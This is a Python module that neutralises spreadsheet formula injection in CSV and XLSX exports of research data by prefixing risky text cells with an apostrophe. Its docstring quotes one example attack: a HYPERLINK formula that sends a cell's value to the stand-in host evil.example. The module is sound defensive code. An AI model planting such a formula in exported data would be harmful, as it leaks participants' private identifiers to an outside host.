"""CSV that a spreadsheet opens as text: a cell that would start a formula gets a leading apostrophe.

Researchers open exports (payment lists with Prolific/MTurk ids, free-text feedback, prompts) in Excel,
LibreOffice or Google Sheets, which run a cell starting with `=`, `+`, `-` or `@` (and, after a tab or a
carriage return, the same) as a formula: `=HYPERLINK("http://evil.example/?"&B2,"bonus")` in a PROLIFIC_PID
would leak the row. Every CSV/XLSX export is written through this module. Numbers stay numbers: only text
cells are changed. Django-free, so engines use it too.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pandas is imported where a frame is written, never on a participant's path
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    """`value` with a leading `'` if it is text that a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralize_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells (and column names) cannot start a formula."""
    import pandas as pd

    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(neutralize)
    safe.columns = [neutralize(column) for column in safe.columns]
    return safe


def frame_to_csv(frame: pd.DataFrame, **options: Any) -> str:
    """`frame.to_csv(index=False, **options)` with every text cell neutralised."""
    return neutralize_frame(frame).to_csv(index=False, **options)


def dict_rows_to_csv(rows: Iterable[Mapping[str, Any]], fieldnames: list[str]) -> str:
    """Rows of dicts as CSV text (header first) with every text cell neutralised."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=[neutralize(name) for name in fieldnames])
    writer.writeheader()
    for row in rows:
        writer.writerow({neutralize(key): neutralize(value) for key, value in row.items()})
    return buffer.getvalue()
